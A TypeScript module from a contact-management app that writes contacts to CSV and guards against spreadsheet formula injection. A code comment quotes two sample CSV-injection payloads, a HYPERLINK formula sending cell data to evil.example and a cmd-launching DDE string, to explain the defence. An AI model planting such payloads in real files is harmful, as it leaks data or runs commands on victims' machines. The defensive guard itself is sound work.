/**
 * Contacts as a CSV file for a spreadsheet or a CRM: one row per contact,
 * readable values (the level's name, not its id; full LinkedIn addresses),
 * lists in one cell each (csv-list-cell.ts, which Rapport's own contact
 * import splits again).
 * It is a view of the contacts, not a backup: the JSON backup
 * (backup-export.ts) stays the format that keeps everything.
 */
import Papa from 'papaparse';
import type { Account, Contact, Ladder, Role, Seniority } from '../db/schema';
import { placeLevel } from '../domain/levels';
import { joinListCell } from './csv-list-cell';

/** What the rows need besides the contacts: account names (and values) and the ladder's level names. */
export interface ContactExportContext {
  /** Accounts by id (only their names, revenues and potentials are used). */
  accounts: ReadonlyMap<string, Pick<Account, 'name' | 'revenue' | 'potential'>>;
  ladder: Ladder;
}

export const csvColumns = [
  'Name',
  'Emails',
  'LinkedIn URLs',
  'Account',
  // Read back by the contact import as a new account's revenue and potential, so the 80/20 tiers
  // survive a round trip (whether or not they count potential).
  'Account revenue',
  'Account potential',
  'Level',
  'Roles',
  'Seniority',
  'Headline',
  'Interests',
  'Motivations',
  'Tags',
  'Cadence days',
  'Left account',
  'Created',
  'Updated',
] as const;

export const exportRoleLabels: Record<Role, string> = {
  'decision-maker': 'Decision maker',
  influencer: 'Influencer',
  champion: 'Champion',
  user: 'User',
  gatekeeper: 'Gatekeeper',
};

export const exportSeniorityLabels: Record<Seniority, string> = {
  senior: 'Senior management',
  middle: 'Middle management',
  staff: 'Staff',
  unknown: '',
};

/** A LinkedIn profile address for a stored (normalised) slug. */
export function linkedinUrl(slug: string): string {
  return `https://www.linkedin.com/in/${encodeURIComponent(slug)}/`;
}

/** The account's name, or '' for a contact without one (or whose account is gone). */
export function accountName(contact: Contact, context: ContactExportContext): string {
  return contact.accountId === null ? '' : (context.accounts.get(contact.accountId)?.name ?? '');
}

/** One of the account's amounts as a plain number ("1200000"), or '' for a contact without an account. */
export function accountAmount(
  contact: Contact,
  context: ContactExportContext,
  amount: 'revenue' | 'potential',
): string {
  const account = contact.accountId === null ? undefined : context.accounts.get(contact.accountId);
  return account === undefined ? '' : String(account[amount]);
}

/**
 * The level's name. A level id no longer on the ladder reads as the lowest
 * level, as everywhere else in Rapport (lib/domain/levels.ts placeLevel).
 */
export function levelName(contact: Contact, context: ContactExportContext): string {
  return placeLevel(context.ladder, contact.levelId).level.name;
}

/**
 * Characters that make a spreadsheet read a cell as a formula (or, for tab
 * and carriage return, that some spreadsheets strip before doing so). A
 * contact's name or headline comes from web pages and imported files, so a
 * cell like `=HYPERLINK("http://evil.example?"&A1,"Click")` or
 * `@SUM(1+1)*cmd|' /C calc'!A0` could leak data or run commands when the
 * file is opened in Excel, LibreOffice or Google Sheets (CSV injection,
 * https://owasp.org/www-community/attacks/CSV_Injection). OWASP's advice is
 * followed: such a cell is prefixed with a single quote, which spreadsheets
 * take as "this is text" and a person reads past.
 */
const FORMULA_TRIGGER = /^[=+\-@\t\r]/;

export function neutraliseFormula(cell: string): string {
  return FORMULA_TRIGGER.test(cell) ? `'${cell}` : cell;
}

/**
 * The cell as it was before neutraliseFormula, for a file that went through
 * it (Rapport's own export, read back by the contact import). A quote before
 * anything else is left alone: only the quote this guard adds is taken off.
 */
export function restoreFormula(cell: string): string {
  return cell.startsWith("'") && FORMULA_TRIGGER.test(cell.slice(1)) ? cell.slice(1) : cell;
}

const isoDay = (instant: number) => new Date(instant).toISOString().slice(0, 10);

/** One contact's cells, in the order of csvColumns, before any escaping. */
export function contactCsvCells(contact: Contact, context: ContactExportContext): string[] {
  return [
    contact.name,
    joinListCell(contact.emails),
    joinListCell(contact.linkedinSlugs.map(linkedinUrl)),
    accountName(contact, context),
    accountAmount(contact, context, 'revenue'),
    accountAmount(contact, context, 'potential'),
    levelName(contact, context),
    joinListCell(contact.roles.map((role) => exportRoleLabels[role])),
    exportSeniorityLabels[contact.seniority],
    contact.headline ?? '',
    joinListCell(contact.interests),
    joinListCell(contact.motivations),
    joinListCell(contact.tags),
    contact.cadenceDays === null ? '' : String(contact.cadenceDays),
    contact.left ? 'Yes' : 'No',
    isoDay(contact.createdAt),
    isoDay(contact.updatedAt),
  ];
}

/**
 * A byte order mark. Excel reads a CSV file without one in the system's
 * legacy code page (Windows-1252 in much of the world), which turns "José"
 * into "JosÃ©" and CJK names into garbage; with it, Excel reads UTF-8.
 * LibreOffice, Google Sheets and Rapport's own import skip it.
 */
export const UTF8_BOM = '\uFEFF';

/** RFC 4180: records end with CRLF. */
const CRLF = '\r\n';

function unparse(rows: string[][]): string {
  return Papa.unparse(rows, {
    newline: CRLF,
    quotes: false,
    quoteChar: '"',
    escapeChar: '"',
    delimiter: ',',
  });
}

/**
 * The CSV lines of these contacts (no header, no BOM), each ending with
 * CRLF: for building a large file in parts.
 */
export function contactsCsvRows(contacts: readonly Contact[], context: ContactExportContext): string {
  if (contacts.length === 0) return '';
  return unparse(contacts.map((contact) => contactCsvCells(contact, context).map(neutraliseFormula))) + CRLF;
}

/** The BOM and the header line. */
export function contactsCsvHeader(): string {
  return UTF8_BOM + unparse([[...csvColumns]]) + CRLF;
}

/** The whole file's text: BOM, header, one line per contact, CRLF line ends. */
export function contactsToCsv(contacts: readonly Contact[], context: ContactExportContext): string {
  return contactsCsvHeader() + contactsCsvRows(contacts, context);
}
